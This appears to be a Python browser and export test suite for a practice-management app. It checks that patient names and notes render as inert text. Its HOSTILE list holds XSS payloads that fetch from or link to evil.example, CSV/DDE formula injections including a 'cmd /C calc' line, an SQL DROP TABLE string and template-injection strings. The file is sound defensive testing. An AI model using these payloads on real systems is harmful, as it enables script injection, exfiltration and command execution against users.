"""What people type is shown as text: on every page in a real browser, and in every file.

Every name, note, address and text of the sample practice is exchanged for something that would run,
load, link or break a layout if it were taken for more than text.
"""

import csv
import io
import json
import re
from datetime import date
from html import unescape

import pytest
from pypdf import PdfReader

from pages.shared import routes
from pages.shared.chart_map import Section
from tests.browser.conftest import DAY, settle, sign_in, turn_to
from tests.support.marked_practice import store_marked_practice
from tests.support.moved_server import MovedServer
from trellis_core.access import AccessRole
from trellis_core.rules.rulebook import load_rule_book
from trellis_core.services import billing, caseload
from trellis_core.services import sign_in as sign_ins
from trellis_core.store.engine import open_store
from trellis_core.values.clock import SystemClock
from trellis_core.values.periods import ServiceMonth
from trellis_core.values.spreadsheet_text import safe_text

EVIL = "evil.example"
LONG = "Longwood " * 1_111
HOSTILE = (
    f"<script>window.ran=1;fetch('//{EVIL}/s')</script>",
    f'<form action="https://{EVIL}/f"><input name=p></form>',
    f'<iframe src="https://{EVIL}/i"></iframe>',
    f"![x](https://{EVIL}/p.png?mrn=1)",
    f"[a link](https://{EVIL}/l) https://{EVIL}/bare www.{EVIL}",
    f'=HYPERLINK("https://{EVIL}/h","x")',
    "\u202etxeT\u202c \u200fmark\u2066",
    LONG,
    """'"quotes"'; DROP TABLE patient;-- \\ &amp; &lt;b&gt;""",
    f'<img src="https://{EVIL}/o" onerror="window.ran=1"><svg onload=window.ran=1>',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f":red[x] :material/home: $\\frac{{1}}{{2}}$ `code` **bold** ~~no~~ # head <b>b</b> javascript://{EVIL}",
    "+1 {0} %s %(name)s ${x} {{7*7}} <%= 7*7 %>",
    f'"><a href="javascript:window.ran=1">x</a><base href="//{EVIL}/"><style>*{{display:none}}</style>',
)
NOVEMBER = ServiceMonth(2026, 11)
OCTOBER = ServiceMonth(2026, 10)
THEIRS = """() => {
  const found = [];
  for (const each of document.querySelectorAll(
      'script, iframe, form, img, a, base, link, object, embed, style, svg, image, use, meta, input')) {
    const told = [...each.attributes].map((a) => a.value).join(' ') +
      (['STYLE', 'SCRIPT'].includes(each.tagName) ? each.textContent : '');
    if (/^(INPUT|IMG|A)$/.test(each.tagName) && each.tagName === 'INPUT' && each.name !== 'p') continue;
    const points = each.tagName === 'A' ? each.href : each.src || each.action || '';
    if (String(points).includes('evil.example') || /^javascript:/i.test(String(points))
        || (each.tagName === 'SCRIPT' && told.includes('window.ran'))
        || (each.tagName === 'STYLE' && told.includes('*{display:none}'))
        || each.tagName === 'BASE' && told.includes('evil')
        || [...each.attributes].some((a) => a.name.startsWith('on') && a.value.includes('window.ran'))
        || (each.tagName === 'INPUT' && each.name === 'p'))
      found.push(each.outerHTML.slice(0, 200));
  }
  if (window.ran) found.push('something ran');
  return found;
}"""


def in_hostile_words(column, old, place):
    """Return a text for a cell: in turn for each column, and told apart where it must be."""
    words = HOSTILE[(place + sum(map(ord, column))) % len(HOSTILE)]
    if words is LONG and column not in {"patients.family_name", "time_entries.note"}:
        words = HOSTILE[0]
    return f"{words} {place}" if column.endswith((".mrn", ".member_id")) else words


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    store_marked_practice(folder / "trellis.db", in_hostile_words, day=date.fromisoformat(DAY))
    running = MovedServer(folder, f"sqlite:///{folder / 'trellis.db'}", more={"TRELLIS_TODAY": DAY})
    running.start()
    yield running
    running.stop()


@pytest.fixture
def store(hostile):
    opened = open_store(hostile.store_url)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def watched(kept_page, hostile):
    """A page, and what it ever did that no text may make it do."""
    bad = []
    kept_page.on(
        "dialog", lambda dialog: (bad.append(f"dialog {dialog.message}"), dialog.dismiss())
    )
    kept_page.on(
        "request",
        lambda request: (
            None
            if request.url.startswith((hostile.url, "data:", "blob:"))
            else bad.append(f"request {request.url}")
        ),
    )
    kept_page.on("popup", lambda popup: bad.append(f"popup {popup.url}"))
    return kept_page, bad


def look(page, bad, where):
    assert not bad, (where, bad)
    found = page.evaluate(THEIRS)
    assert not found, (where, found)


def actor_of(store, role):
    return next(actor for _, actor in sign_ins.demo_actors(store=store) if actor.role is role)


def test_the_words_are_in_the_store_as_they_were_written(store):
    owner = actor_of(store, AccessRole.OWNER)
    rows = caseload.patients(text="", limit=100, store=store, actor=owner).rows
    written = " ".join(row.name for row in rows)
    assert sum(words.strip() in written for words in HOSTILE) >= 12


def test_nothing_that_was_typed_runs_loads_or_links_on_any_page(watched, hostile, store):
    page, bad = watched
    page.context.clear_cookies()
    page.goto(f"{hostile.url}/")
    page.get_by_role("button", name=re.compile("owner", re.IGNORECASE)).first.wait_for()
    look(page, bad, "sign-in")
    sign_in(page, hostile, "owner")
    shown = set()
    for spec in routes.PAGES:
        turn_to(page, f"{hostile.url}/{spec.name}?month=2026-10")
        look(page, bad, spec.name)
        shown |= {words for words in HOSTILE if said_by(page, words)}
    assert len(shown) >= 6, shown


def test_nothing_that_was_typed_runs_in_a_chart_or_on_a_superbill(watched, hostile, store):
    page, bad = watched
    owner = actor_of(store, AccessRole.OWNER)
    rows = caseload.patients(text="", limit=100, store=store, actor=owner).rows
    chosen = {row.name: row for row in rows}
    sign_in(page, hostile, "owner")
    for row, section in zip(chosen.values(), Section, strict=False):
        page.goto(f"{hostile.url}/chart?patient={row.id}&month=2026-10&section={section}")
        page.locator("h1").first.wait_for()
        settle(page)
        look(page, bad, (row.id, section))
    for patient in ("p-101", "p-102", "p-103"):
        page.goto(f"{hostile.url}/superbills?month=2026-10&patient={patient}")
        page.locator("h1").first.wait_for()
        settle(page)
        look(page, bad, patient)


def test_a_search_for_hostile_words_finds_or_says_nobody(watched, hostile):
    page, bad = watched
    sign_in(page, hostile, "owner", "/patients")
    box = page.get_by_label("Find a patient").first
    for words in (HOSTILE[0], HOSTILE[3], HOSTILE[8]):
        box.fill(words[:200])
        box.press("Enter")
        settle(page)
        look(page, bad, words)


def said_by(page, words):
    text = " ".join(page.inner_text("body").replace("\N{WORD JOINER}", "").split())
    return " ".join(words.split())[:60] in text


# --- files ------------------------------------------------------------------------------------


def documents(store, form, **more):
    return billing.superbill_document(
        month=OCTOBER,
        form=form,
        store=store,
        actor=actor_of(store, AccessRole.OWNER),
        clock=SystemClock(),
        rule_book=load_rule_book(),
        **more,
    )


def test_a_table_holds_every_text_and_runs_none(store):
    (head, *rows) = csv.reader(
        io.StringIO(documents(store, "csv").content.decode(), newline=""), strict=True
    )
    assert len(rows) >= 15
    texts = {cell for row in rows for cell in row}
    for cell in texts - {"-20"}:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), cell
    families = {row[head.index("last_name")] for row in rows}
    assert families <= {safe_text(words.strip()) for words in HOSTILE}
    assert len(families) >= 5
    assert len(documents(store, "csv").file_name) < 60


def test_json_holds_every_text_as_it_was_written(store):
    content = json.loads(documents(store, "json").content)
    payers = {bill["payer"] for bill in content["superbills"]}
    assert payers <= {words.strip() for words in HOSTILE}
    assert len(payers) >= 5


@pytest.mark.parametrize("patient", ["p-101", "p-102", "p-103", "p-104", "p-105", "p-106"])
def test_fhir_holds_every_text_and_its_narrative_no_markup_of_theirs(store, patient):
    content = json.loads(documents(store, "fhir", patient_id=patient).content)
    resources = [entry["resource"] for entry in content["entry"]]
    person = next(each for each in resources if each["resourceType"] == "Patient")
    assert person["name"][0]["family"] in {words.strip() for words in HOSTILE}
    for resource in resources:
        inside = re.sub(r"^<div[^>]*>|</div>$", "", resource.get("text", {}).get("div", ""))
        assert "<" not in re.sub(r"</?(?:p|br|table|tbody|tr|td|th|ul|li|b)\s*/?>", "", inside)
        assert "<script" not in inside
        assert unescape(inside) is not None


def test_a_paper_shows_the_words_and_has_nothing_to_press(store):
    seen = set()
    for number in range(101, 109):
        made = documents(store, "pdf", patient_id=f"p-{number}")
        assert re.fullmatch(r"superbill-2026-10-[0-9a-f]{8}\.pdf", made.file_name)
        reader = PdfReader(io.BytesIO(made.content))
        assert EVIL not in str(reader.metadata)
        assert not [page["/Annots"] for page in reader.pages if "/Annots" in page]
        assert not {"/AA", "/Names", "/AcroForm"} & set(reader.trailer["/Root"])
        assert isinstance(reader.trailer["/Root"]["/OpenAction"], list), "a place, not an action"
        text = "".join("".join(page.extract_text() for page in reader.pages).split())
        seen |= {words for words in HOSTILE if "".join(words.split())[:24] in text}
    assert len(seen) >= 6, seen
